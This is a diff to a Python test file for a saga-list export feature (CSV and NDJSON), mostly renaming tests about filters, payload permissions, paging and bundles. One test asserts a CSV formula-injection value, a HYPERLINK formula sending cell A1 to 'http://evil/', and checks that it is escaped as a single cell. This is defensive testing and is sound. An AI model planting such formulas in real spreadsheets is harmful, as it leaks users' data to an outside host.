@@ -1,4 +1,4 @@
-"""What the list shows can be taken along: whole, bounded in memory, without formulas, without what one may not see."""
+"""Export of the list: complete, in bounded memory, without formulas, and only with permission."""
 
 import csv
 import json
@@ -56,7 +56,7 @@ def test_table_holds_what_the_list_shows(log_in: LogIn) -> None:
 
 
 @pytest.mark.parametrize("form", ["csv", "ndjson"])
-def test_filters_and_search_count(log_in: LogIn, form: str) -> None:
+def test_export_respects_filters_and_search(log_in: LogIn, form: str) -> None:
     trips.make_completed()
     paused = trips.make_paused()
     client = log_in("viewer")
@@ -71,7 +71,7 @@ def test_filters_and_search_count(log_in: LogIn, form: str) -> None:
 @pytest.mark.parametrize(
     "query", [{"display": "nowhere"}, {"input__contains": "x"}, {"group": "x"}, {"e": "1", "z": ""}]
 )
-def test_filter_that_is_none_exports_nothing(log_in: LogIn, query: dict[str, str]) -> None:
+def test_unknown_filter_exports_nothing(log_in: LogIn, query: dict[str, str]) -> None:
     trips.start()
 
     response = log_in("admin").get(url_of("csv"), query)
@@ -80,7 +80,7 @@ def test_filter_that_is_none_exports_nothing(log_in: LogIn, query: dict[str, str
     assert not response.streaming
 
 
-def test_documents_are_whole_for_those_who_may_see_payloads(log_in: LogIn) -> None:
+def test_documents_are_complete_with_the_payload_permission(log_in: LogIn) -> None:
     saga = trips.make_compensation_failing()
 
     [line] = read_text(log_in("supervisor").get(url_of("ndjson"))).splitlines()
@@ -93,7 +93,7 @@ def test_documents_are_whole_for_those_who_may_see_payloads(log_in: LogIn) -> No
 
 
 @pytest.mark.parametrize("path", ["export/csv/", "export/ndjson/", "bundle"])
-def test_nobody_else_gets_payloads(log_in: LogIn, path: str) -> None:
+def test_documents_hold_no_payloads_without_the_permission(log_in: LogIn, path: str) -> None:
     saga = trips.make_compensation_failing()
     abandoned = trips.make_abandoned()
     steps = Saga.objects.get(pk=saga.pk).steps
@@ -111,7 +111,7 @@ def test_nobody_else_gets_payloads(log_in: LogIn, path: str) -> None:
     assert "RuntimeError" in read_text(client.get(url_of("ndjson")))
 
 
-def test_bundle_is_one_saga_with_everything(log_in: LogIn) -> None:
+def test_bundle_holds_everything_of_one_saga(log_in: LogIn) -> None:
     saga = trips.make_paused()
     client = log_in("supervisor")
 
@@ -170,14 +170,14 @@ def test_hostile_keys_stay_one_cell(log_in: LogIn) -> None:
     assert row["keys"] == 'order==HYPERLINK("http://evil/"&A1,"x")\\r\\n"quoted", \u2603'
 
 
-def test_empty_list_gives_a_head_alone(log_in: LogIn) -> None:
+def test_empty_list_gives_a_header_only(log_in: LogIn) -> None:
     client = log_in("viewer")
 
     assert next(csv.reader([read_text(client.get(url_of("csv")))])) == list(COLUMNS)
     assert read_text(client.get(url_of("ndjson"))) == ""
 
 
-def test_pages_are_read_as_they_are_wanted(log_in: LogIn, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_pages_are_read_on_demand(log_in: LogIn, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(export, "PAGE", 2)
     made = [trips.start().pk for _ in range(5)]
     Saga.objects.filter(pk__in=made[:3]).update(created_at=Saga.objects.get(pk=made[0]).created_at)
@@ -196,7 +196,7 @@ def test_pages_are_read_as_they_are_wanted(log_in: LogIn, monkeypatch: pytest.Mo
     assert all("LIMIT 2" in query["sql"] for query in first.captured_queries[:1])
 
 
-def test_reasons_of_people_are_everybody_s(log_in: LogIn) -> None:
+def test_operators_reasons_need_no_payload_permission(log_in: LogIn) -> None:
     saga = trips.start()
     operations.cancel(saga.pk, actor=trips.BOSS, reason=REASON)
 
